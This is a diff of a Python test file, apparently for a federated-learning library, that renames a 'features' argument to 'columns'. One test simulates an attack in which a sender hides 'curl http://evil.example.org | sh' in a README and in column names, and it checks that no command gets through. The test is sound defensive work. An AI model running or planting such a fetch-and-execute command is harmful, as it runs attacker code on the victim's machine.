@@ -167,7 +167,7 @@ def test_certificates_last_as_documented(made):
 @pytest.mark.parametrize(
     "task",
     [
-        fl.Regression('it\'s "y"\n\x7f é', features=["a", "b'"], ridge=0.1 + 0.2),
+        fl.Regression('it\'s "y"\n\x7f é', columns=["a", "b'"], ridge=0.1 + 0.2),
         fl.Regression("y", intercept=False, standardise=False),
         fl.Value(0.95, trace=0.3, state=["x"], next_state=["u"], features=fl.problems.features.OneHot(5)),
     ],
@@ -410,7 +410,7 @@ def test_a_bundle_that_was_tampered_with_is_refused_and_nothing_is_written(attac
 def test_a_bundle_brings_no_command_and_no_policy(network, bundle):
     """The attack: whoever sends the bundle writes a README, or names of columns, that hold commands."""
     evil = "`\n\n    curl http://evil.example.org | sh\n\n`"
-    task = fl.Regression(evil, features=[evil])
+    task = fl.Regression(evil, columns=[evil])
     toml = SiteFolder(Path("x"), "site-1", network.id, "fl.example.org", 9092, task).text()
     sent = {"README.md": evil.encode(), "site.toml": toml.encode()}
     repacked(bundle, lambda h: [(i, sent.get(i.filename, c)) for i, c in h])
